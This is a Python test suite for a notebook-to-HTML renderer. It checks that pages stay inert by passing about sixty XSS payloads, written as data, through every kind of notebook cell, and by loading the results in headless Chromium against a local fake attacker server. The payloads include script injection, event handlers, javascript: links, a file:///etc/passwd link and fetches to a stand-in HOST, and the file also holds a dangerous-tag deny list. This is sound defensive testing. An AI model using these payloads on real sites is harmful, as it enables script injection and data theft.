"""Pages show what was written and run nothing: sixty payloads through every kind of cell."""

from __future__ import annotations

import base64
import http.server
import shutil
import subprocess
import threading
from html.parser import HTMLParser

import nh3
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from analysis.present import pages
from analysis.present.pages import document, gate, sanitise

PIXEL = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010804000000b51c0c02"
        "0000000b4944415478da63640000000600023081d02f0000000049454e44ae426082"
    )
).decode()

# HOST stands for a server of the attacker. Every payload tries to run `document.title="X"`
# or to fetch something.
JS = "document.title='X'"
PAYLOADS = [
    f"<script>{JS}</script>",
    f"<SCRIPT SRC=//HOST/a.js></SCRIPT><scr<script>ipt>{JS}</scr</script>ipt>",
    f"</script><script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"</style><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</pre></code></details><script>{JS}</script>",
    f"--><script>{JS}</script><!--",
    f"]]><script>{JS}</script>",
    f"<img src=x onerror={JS}>",
    f"<img src='x'onerror='{JS}'>",
    f"<img/src=x/onerror={JS}>",
    f"<img src=`x`onerror={JS}>",
    "<img src=http://HOST/pixel.png>",
    "<img srcset='http://HOST/s.png 1x'>",
    "<image href=http://HOST/i.png>",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{JS}'><text y=20>click</text></a></svg>",
    "<svg><use href='http://HOST/u.svg#a'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}></style></mglyph></table></mtext>",
    f"<math href='javascript:{JS}'>click</math>",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    f"<input autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}>x</details>",
    f"<body onload={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=http://HOST/a.mp3 onerror={JS}>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<div style='animation-name:x' onanimationstart={JS}>x</div>",
    "<div style='background:url(http://HOST/bg.png)'>x</div>",
    "<style>@import url(http://HOST/a.css); body{background:url(http://HOST/b.png)}</style>",
    "<link rel=stylesheet href=http://HOST/l.css><link rel=prefetch href=http://HOST/p>",
    "<base href=http://HOST/><a href=x.html>x</a>",
    "<meta http-equiv=refresh content='0;url=http://HOST/meta'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    f"<iframe src='javascript:{JS}'></iframe><iframe src=http://HOST/f></iframe>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    "<object data=http://HOST/o.swf></object><embed src=http://HOST/e.swf>",
    f"<object data='data:text/html,<script>parent.{JS}</script>'></object>",
    "<form action=http://HOST/form><button autofocus>x</button></form>",
    f"<form><button formaction='javascript:{JS}'>x</button></form>",
    f"<a href='javascript:{JS}'>x</a>",
    f"<a href='JaVa\tScRiPt:{JS}'>x</a>",
    f"<a href=' &#106;avascript:{JS}'>x</a>",
    f"<a href='data:text/html,<script>{JS}</script>'>x</a>",
    f"<a href='vbscript:{JS}'>x</a><a href='file:///etc/passwd'>x</a>",
    f"[x](javascript:{JS})",
    f"[x](<javascript:{JS}>) ![x](javascript:{JS})",
    "![x](http://HOST/md.png) ![y][1]\n\n[1]: http://HOST/ref.png",
    f"[x]: javascript:{JS}\n\n[x] <javascript:{JS}>",
    f"[x](data:text/html;base64,{base64.b64encode(b'<script>1</script>').decode()})",
    f"![x](data:image/svg+xml;base64,{base64.b64encode(b'<svg onload=1>').decode()})",
    f"`x`<img src=x onerror={JS}> **<b onclick={JS}>**",
    f'```"><script>{JS}</script>\nx\n```',
    f"# <img src=x onerror={JS}>",
    f"| a |\n|---|\n| <img src=x onerror={JS}> |",
    f"$$<img src=x onerror={JS}>$$ \\(<script>{JS}</script>\\)",
    f'graph TD; A["<img src=x onerror={JS}>"] --> B; click A "javascript:{JS}"',
    f"\x1b]8;;javascript:{JS}\x07x\x1b]8;;\x07\x1b[31m<script>{JS}</script>",
    f'" onmouseover="{JS}" x="',
    f"' autofocus onfocus='{JS}",
    f"{{{{ ''.__class__.__mro__ }}}}{{% raw %}}<script>{JS}</script>",
    f"\x00<scr\x00ipt>{JS}</scr\x00ipt>\ud800",
]
KINDS = [
    "text/html", "text/markdown", "text/plain", "text/latex", "text/vnd.mermaid",
    "image/svg+xml", "application/javascript", "application/json", "application/pdf",
    "application/vnd.jupyter.widget-view+json", "text/unheard-of",
]  # fmt: skip


def notebook_of(payloads: list[str]):
    """A notebook that carries each payload in every place a notebook has."""
    cells = []
    for payload in payloads:
        outputs = [new_output("display_data", data={kind: payload}) for kind in KINDS]
        outputs += [
            new_output(
                "execute_result", data={kind: payload, "text/plain": payload}, execution_count=1
            )
            for kind in KINDS[3:]
        ]
        outputs += [
            new_output("stream", name="stdout", text=payload),
            new_output("stream", name="stderr", text=payload),
            new_output("error", ename=payload, evalue=payload, traceback=[payload]),
            new_output(
                "display_data",
                data={"image/png": PIXEL},
                metadata={"image/png": {"alt": payload, payload: payload}},
            ),
            new_output("display_data", data={"image/png": PIXEL}, metadata={"alt": payload}),
            new_output("display_data", data={"image/png": payload, "image/jpeg": payload}),
        ]
        cells += [
            new_markdown_cell(payload, attachments={"a.png": {"image/svg+xml": payload}}),
            new_markdown_cell(f"![{payload}](attachment:a.png)",
                              attachments={"a.png": {"image/png": payload}}),
            new_code_cell(payload, outputs=outputs, metadata={"tags": ["x"]}),
            new_raw_cell(payload, metadata={"raw_mimetype": "text/html"}),
        ]  # fmt: skip
    for number, cell in enumerate(cells):
        cell["id"] = f"c{number}"
    metadata = {
        "title": payloads[0], "authors": [{"name": payloads[0]}],
        "language_info": {"name": payloads[0], "pygments_lexer": payloads[0]},
        "kernelspec": {"name": payloads[0], "display_name": payloads[0]},
    }  # fmt: skip
    notebook = new_notebook(cells=cells, metadata=metadata)
    for cell in notebook.cells:
        cell["metadata"]["name"] = payloads[0]
    return notebook


def page_of(*cells, title: str = "T", **options) -> str:
    for number, cell in enumerate(cells):
        cell["id"] = f"c{number}"
    return pages.render_page(new_notebook(cells=list(cells)), title=title, **options)


def output_page(kind: str, content: object, **metadata) -> str:
    data = {kind: content, "text/plain": "plain words"}
    return page_of(new_code_cell("", outputs=[new_output("display_data", data, metadata=metadata)]))


def main_of(page: str) -> str:
    return page[page.index("<main>") + 6 : page.index("</main>")].strip()


class Seen(HTMLParser):
    """What a browser would find: elements, attributes and text."""

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text += data


DANGEROUS = {
    "applet", "audio", "base", "button", "embed", "form", "frame", "iframe", "image", "input",
    "link", "marquee", "math", "noscript", "object", "script", "select", "source", "svg",
    "template", "textarea", "use", "video",
}  # fmt: skip


def active_parts(page: str) -> list[str]:
    """Whatever in a page could run or fetch something."""
    seen = Seen(page)
    found = [tag for tag in seen.tags if tag in DANGEROUS]
    found += ["style"] * (seen.tags.count("style") - 1)
    found += ["meta"] * (seen.tags.count("meta") - 4)
    for tag, name, value in seen.attributes:
        address = "".join(value.split()).lower()
        local = address.startswith("#") or address.endswith(".html") or ".html#" in address
        web = address.startswith(("http:", "https:", "mailto:"))
        if name.startswith("on") or name in {
            "srcset",
            "srcdoc",
            "formaction",
            "data",
            "background",
        }:
            found.append(f"{tag} {name}")
        elif name == "style" and not address.startswith("text-align:"):
            found.append(f"{tag} style={value}")
        elif name == "src" and not address.startswith("data:image/png;base64,"):
            found.append(f"{tag} src={value}")
        elif name in {"href", "xlink:href"} and not (tag == "a" and (local or web)):
            found.append(f"{tag} {name}={value}")
        elif name == "http-equiv" and value != "Content-Security-Policy":
            found.append(f"meta {value}")
    return found


# --- nothing active comes through ------------------------------------------------------


def test_there_are_payloads_enough():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_payload_is_active_in_any_place(payload):
    page = pages.render_page(notebook_of([payload]), title=payload)
    assert active_parts(page) == []
    assert page.encode("utf-8")


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_payload_is_active_in_what_notebooks_display(payload):
    storable = payload.replace("\ud800", "")
    table = pages.frame_table(
        pd.DataFrame({storable: [storable]}), numeric=[storable], caption=payload, note=payload
    )
    quotation = pages.evidence_blocks([(payload, "1-3|2-5", payload)], rows=1, note=payload)
    shown = pages.render_markdown(f"**{pages.escape_markdown(payload)}**")
    for fragment in (table, quotation, shown):
        assert active_parts(fragment) == []
    assert not {"a", "img", "h1", "table", "code"} & set(Seen(shown).tags)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_the_gate_alone_stops_every_active_page(payload, monkeypatch):
    """With escaping and cleaning switched off, a page that is active is never handed out."""
    monkeypatch.setattr("analysis.present.pages.outputs.clean_html", lambda html: html)
    monkeypatch.setattr(sanitise, "too_deep", lambda html: False)
    try:
        page = output_page("text/html", payload)
    except pages.UnsafePageError as error:
        assert "page refused" in str(error)
    else:
        assert active_parts(page) == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_index_and_navigation_hold_payloads_as_text(payload):
    links = [pages.PageLink("00_overview.html", payload, payload)]
    index = pages.render_index(links, title=payload, about=payload, files=[(payload, payload)])
    assert active_parts(index) == []
    assert active_parts(page_of(new_markdown_cell("x"), title=payload, links=links)) == []


@given(st.text(alphabet=st.characters(codec=None), max_size=60))
@settings(max_examples=150, deadline=None)
def test_escaped_markdown_shows_exactly_its_text(text):
    rendered = pages.render_markdown(f"a{pages.escape_markdown(text)}b", used={})
    assert set(Seen(rendered).tags) <= {"p"}
    expected = " ".join(pages.visible(text).split())
    assert Seen(rendered).text.strip() == f"a{expected}b"


@given(st.text(alphabet=st.sampled_from("<>\"'&;=/ -!abonscriptsvgmath[]()#`"), max_size=80))
@settings(max_examples=150, deadline=None)
def test_cleaned_html_is_never_active_and_cleaning_it_again_changes_nothing(text):
    once = pages.clean_html(text)
    assert active_parts(once) == []
    assert pages.clean_html(once) == once


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_cleaning_again_changes_nothing(payload):
    once = pages.clean_html(payload)
    assert pages.clean_html(once) == once


# --- in a browser ------------------------------------------------------------------------

CHROMIUM = shutil.which("chromium")
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--virtual-time-budget=3000", "--dump-dom",
]  # fmt: skip


class Listener(http.server.BaseHTTPRequestHandler):
    """Notes what is asked for."""

    def do_GET(self):
        self.server.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_):
        pass


@pytest.fixture
def attacker():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    server.asked = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


def browse(page: str, tmp_path, server) -> tuple[bool, list[str]]:
    """Whether a script of the page ran, and what it fetched, in a browser without a display."""
    path = tmp_path / "page.html"
    host = f"127.0.0.1:{server.server_address[1]}"
    path.write_text(page.replace("HOST", host), encoding="utf-8")
    profile = tmp_path / "profile"
    command = [CHROMIUM, *FLAGS, f"--user-data-dir={profile}", path.as_uri()]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0 and "<html" in done.stdout, done.stderr[-500:]
    return "<title>X</title>" in done.stdout, list(server.asked)


def without_policy(page: str) -> str:
    assert gate.POLICY in page
    return page.replace(gate.POLICY, "")


def unclean_page(monkeypatch) -> str:
    """All payloads as they are, in a page whose only defence is its policy.

    A refresh is left out: no policy of a page governs where it leads, the gate refuses it.
    """
    monkeypatch.setattr("analysis.present.pages.outputs.clean_html", lambda html: html)
    monkeypatch.setattr(document, "check_page", lambda page: None)
    fatal = ("refresh", "<!--", "</script", "textarea", "noscript", "math", "select", "\x00")
    raw = [payload for payload in PAYLOADS if not any(word in payload for word in fatal)]
    raw.append(f"<script>{JS}</script>")
    return output_page("text/html", "\n".join(raw).replace("\x1b", "").replace("\x00", ""))


@pytest.mark.skipif(CHROMIUM is None, reason="no `chromium` on PATH to open pages with")
@pytest.mark.parametrize("wall", ["both", "escaping alone", "policy alone", "none"])
def test_in_a_browser_nothing_runs_and_nothing_is_fetched(wall, attacker, tmp_path, monkeypatch):
    page = (
        unclean_page(monkeypatch)
        if wall in {"policy alone", "none"}
        else pages.render_page(notebook_of(PAYLOADS), title=PAYLOADS[3])
    )
    page = without_policy(page) if wall in {"escaping alone", "none"} else page
    ran, asked = browse(page, tmp_path, attacker)
    if wall == "none":
        assert ran and asked, "the payloads are harmless even without walls: the test is blind"
    else:
        assert (ran, asked) == (False, [])


# --- what is shown -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "content", "expected"),
    [
        pytest.param("text/html", "<p>a <mark>b</mark></p>",
                     '<div class="scroll"><p>a <mark>b</mark></p></div>', id="HTML is kept"),
        pytest.param("text/html", ["<p>a", "</p>"], '<div class="scroll"><p>a</p></div>',
                     id="lines are joined"),
        pytest.param("text/html", '<table class="dataframe evil" border="1" style="x"></table>',
                     '<div class="scroll"><table class="dataframe"></table></div>',
                     id="only known classes stay"),
        pytest.param("text/html", "<style>p{}</style>x", '<div class="scroll">x</div>',
                     id="style sheets go with their content"),
        pytest.param("text/html", "<b>" * 1001, '<pre class="text">plain words</pre>',
                     id="too deep gives the plain text"),
        pytest.param("text/markdown", "**a** $x$ <b>", "<div><p><strong>a</strong> $x$ &lt;b&gt;"
                     "</p>\n</div>", id="Markdown, dollars and HTML as text"),
        pytest.param("image/svg+xml", "<svg/>", '<pre class="text">plain words</pre>',
                     id="a vector image is its words"),
        pytest.param("text/latex", "$x$", '<pre class="text">plain words</pre>',
                     id="mathematics is its words"),
        pytest.param("image/png", "AAAA", '<pre class="text">plain words</pre>',
                     id="a PNG that is none is its words"),
    ],
)  # fmt: skip
def test_an_output_is_shown_in_its_best_harmless_form(kind, content, expected):
    assert main_of(output_page(kind, content)) == expected


def test_a_form_without_words_is_named():
    output = new_output("display_data", {"image/svg+xml": "<svg/>", "application/x": "1"})
    page = page_of(new_code_cell("", outputs=[output]))
    assert main_of(page) == '<p class="left-out">Not shown: application/x, image/svg+xml</p>'


@pytest.mark.parametrize(
    ("metadata", "alt"),
    [
        pytest.param({"image/png": {"alt": 'a "b" <c>'}}, 'a "b" <c>', id="of the image"),
        pytest.param({"alt": "words"}, "words", id="of the output"),
        pytest.param({"image/png": "odd"}, "Figure without a description", id="none"),
    ],
)
def test_figures_carry_their_alternative_text(metadata, alt):
    seen = Seen(output_page("image/png", f"{PIXEL[:20]}\n{PIXEL[20:]}\n", **metadata))
    assert ("img", "alt", alt) in seen.attributes
    assert ("img", "src", f"data:image/png;base64,{PIXEL}") in seen.attributes


@pytest.mark.parametrize(
    ("output", "expected"),
    [
        pytest.param(new_output("stream", name="stdout", text="a\x1b[31mred\x1b[0m\r\nb<"),
                     '<pre class="stdout">ared\nb&lt;</pre>', id="colours go, lines stay"),
        pytest.param(new_output("stream", name="stderr", text="w"),
                     '<pre class="stderr">w</pre>', id="warnings are marked"),
        pytest.param(new_output("error", ename="ValueError", evalue="no & no",
                                traceback=["/home/somebody/x.py"]),
                     '<pre class="error">ValueError: no &amp; no</pre>', id="errors without paths"),
    ],
)  # fmt: skip
def test_streams_and_errors_are_plain(output, expected):
    assert main_of(page_of(new_code_cell("", outputs=[output]))) == expected


@pytest.mark.parametrize(
    ("tags", "shown"),
    [
        pytest.param(["hide"], False, id="hidden by the author"),
        pytest.param(["injected-parameters"], False, id="paths given by the program"),
        pytest.param(["parameters"], True, id="parameters are shown"),
        pytest.param([], True, id="no tags"),
    ],
)
def test_tagged_cells_are_left_out(tags, shown):
    page = page_of(new_code_cell("secret = 1", metadata={"tags": tags}))
    assert ("secret = 1" in page) == shown


def test_code_is_folded_away():
    page = page_of(new_code_cell("a < b"))
    assert main_of(page) == (
        '<details class="code"><summary>Code</summary><pre><code>a &lt; b</code></pre></details>'
    )


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        pytest.param("02_entity.ipynb", "02_entity.html", id="a notebook becomes its page"),
        pytest.param("02_entity.ipynb#Pairs", "02_entity.html#Pairs", id="with its anchor"),
        pytest.param("04_timeline.html", "04_timeline.html", id="a page of the folder"),
        pytest.param("#Pairs", "#Pairs", id="an anchor"),
        pytest.param("https://example.org/a?b=c&d", "https://example.org/a?b=c&d", id="the web"),
        pytest.param("mailto:a@example.org", "mailto:a@example.org", id="mail"),
        pytest.param("HTTP://EXAMPLE.ORG", "HTTP://EXAMPLE.ORG", id="capitals"),
        pytest.param("../secret.html", None, id="another folder"),
        pytest.param("/etc/passwd", None, id="a path"),
        pytest.param("//example.org/x.html", None, id="no scheme"),
        pytest.param("javascript:alert(1)", None, id="script"),
        pytest.param("java\nscript:alert(1)//.html", None, id="script in two lines"),
        pytest.param("data:text/html,x.html", None, id="data"),
        pytest.param('x.html" onclick="1', None, id="attribute break-out"),
        pytest.param("https://a b", None, id="blank in an address"),
        pytest.param("", None, id="empty"),
    ],
)
def test_links_lead_to_the_web_or_to_neighbours(address, expected):
    assert sanitise.safe_link(address) == expected


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        pytest.param("<a href='../x.html'>x</a>", f'<a rel="{sanitise.REL}">x</a>', id="folder"),
        pytest.param("<a href='//e.org/x'>x</a>", f'<a rel="{sanitise.REL}">x</a>', id="no scheme"),
        pytest.param(
            "<a href='01_x.ipynb' target=_top>x</a>",
            f'<a href="01_x.html" rel="{sanitise.REL}">x</a>',
            id="a notebook becomes its page",
        ),
        pytest.param("<p id=x class='evidence y'>x</p>", '<p class="evidence">x</p>', id="no ids"),
        pytest.param(
            "<table><tr><th colspan=2 scope=row rowspan=1e9>x</th></tr></table>",
            '<table><tbody><tr><th colspan="2" scope="row">x</th></tr></tbody></table>',
            id="spans of cells are small numbers",
        ),
    ],
)
def test_attributes_keep_only_known_values(html, expected):
    assert pages.clean_html(html) == expected


def test_refused_links_and_images_leave_their_words():
    html = pages.render_markdown("[a **b**](ftp://x) ![c](http://x/y.png) [d](https://e.org)")
    assert html == (
        '<p>a <strong>b</strong> [c] <a href="https://e.org" rel="noopener noreferrer nofollow">'
        "d</a></p>\n"
    )


def test_images_at_hand_are_shown():
    data = f"data:image/png;base64,{PIXEL}"
    attached = {"a.png": {"image/png": PIXEL}}
    html = pages.render_markdown(f"![x]({data}) ![y](attachment:a.png)", attachments=attached)
    assert html == f'<p><img src="{data}" alt="x" /> <img src="{data}" alt="y" /></p>\n'


def test_headings_get_anchors_that_do_not_repeat():
    page = page_of(
        new_markdown_cell("# Who *is* it?\n## Pairs\n## Pairs"), new_markdown_cell("# Pairs")
    )
    anchors = [value for _, name, value in Seen(page).attributes if name == "id"]
    assert anchors == ["Who-is-it?", "Pairs", "Pairs-2", "Pairs-3"]


def test_navigation_marks_the_page_and_leads_on():
    links = [pages.PageLink(f"0{n}_x.html", f"Title {n}") for n in range(3)]
    page = page_of(new_markdown_cell("x"), links=links, current="01_x.html")
    assert '<strong aria-current="page">Title 1</strong>' in page
    assert "← Title 0</a>" in page
    assert "Title 2 →</a>" in page
    with pytest.raises(ValueError, match=r"link to '\.\./x\.html'; expected"):
        page_of(new_markdown_cell("x"), links=[pages.PageLink("../x.html", "x")])


def test_a_page_is_alone_and_the_same_again():
    notebook = notebook_of(PAYLOADS[:3])
    before = str(notebook)
    page = pages.render_page(notebook, title="T")
    assert page == pages.render_page(notebook, title="T")
    assert str(notebook) == before
    assert gate.POLICY in page and 'name="viewport"' in page


def test_an_empty_notebook_is_a_page():
    assert main_of(page_of()) == ""
    assert "<dl" in pages.render_index([], title="T")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        pytest.param("</main>", "<script></script></main>", id="script"),
        pytest.param("</main>", "<p onclick=x></p></main>", id="event"),
        pytest.param("</main>", "<iframe></iframe></main>", id="frame"),
        pytest.param("</main>", "<form></form></main>", id="form"),
        pytest.param("</main>", "<svg></svg></main>", id="vector image"),
        pytest.param("</main>", "<unheard-of></unheard-of></main>", id="unknown element"),
        pytest.param("</main>", '<a href="javascript:x">x</a></main>', id="link"),
        pytest.param("</main>", '<img src="http://x/y.png"></main>', id="image"),
        pytest.param("</main>", '<p style="color:red">x</p></main>', id="style"),
        pytest.param("</main>", "<style>p{}</style></main>", id="second sheet"),
        pytest.param("</style>", "p{background:url(x)}</style>", id="address in the sheet"),
        pytest.param("</main>", '<meta http-equiv="refresh" content="0"></main>', id="refresh"),
        pytest.param("default-src 'none'", "default-src *", id="weaker policy"),
        pytest.param('<meta name="referrer" content="no-referrer">', "", id="referrer sent"),
    ],
)
def test_the_gate_knows_what_a_page_may_hold(old, new):
    page = page_of(new_markdown_cell("x"))
    pages.check_page(page)
    assert old in page
    with pytest.raises(pages.UnsafePageError, match="page refused"):
        pages.check_page(page.replace(old, new, 1))


# --- fragments ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("marks", "expected"),
    [
        pytest.param("", "ab&lt;cd", id="none"),
        pytest.param("0-2", "<mark>ab</mark>&lt;cd", id="one"),
        pytest.param("2-3|0-1", "<mark>a</mark>b<mark>&lt;</mark>cd", id="in any order"),
        pytest.param("0-3|2-4", "<mark>ab&lt;c</mark>d", id="overlapping ones become one"),
        pytest.param("3-99|77-88|4-4", "ab&lt;<mark>cd</mark>", id="outside is cut"),
    ],
)
def test_marks_stand_where_they_should(marks, expected):
    html = pages.evidence_blocks([("ab<cd", marks, "s")], rows=1)
    assert f"<bdi>{expected}</bdi>" in html


@pytest.mark.parametrize(
    ("number", "rows", "summary"),
    [
        pytest.param(2, 2, None, id="all in view"),
        pytest.param(3, 2, "<summary>1 more sentence</summary>", id="one folded"),
        pytest.param(7, 2, "<summary>5 more sentences</summary>", id="some folded"),
    ],
)
def test_evidence_folds_what_is_beyond_the_first(number, rows, summary):
    html = pages.evidence_blocks([("t", "", "s")] * number, rows=rows)
    assert html.count("<blockquote") == number
    assert ("<details>" in html) == (summary is not None)
    assert summary is None or summary in html


@pytest.mark.parametrize(
    "fragment",
    [
        pages.frame_table(
            pd.DataFrame({"a": ["x"], "b": ["1"]}), numeric=["b"], note="n", caption="c"
        ),
        pages.evidence_blocks([("ab", "0-1", "s")] * 3, rows=1, note="n"),
    ],
    ids=["table", "evidence"],
)
def test_our_own_fragments_pass_the_cleaner_unchanged(fragment):
    assert pages.clean_html(fragment) == fragment
    assert nh3.is_html(fragment)
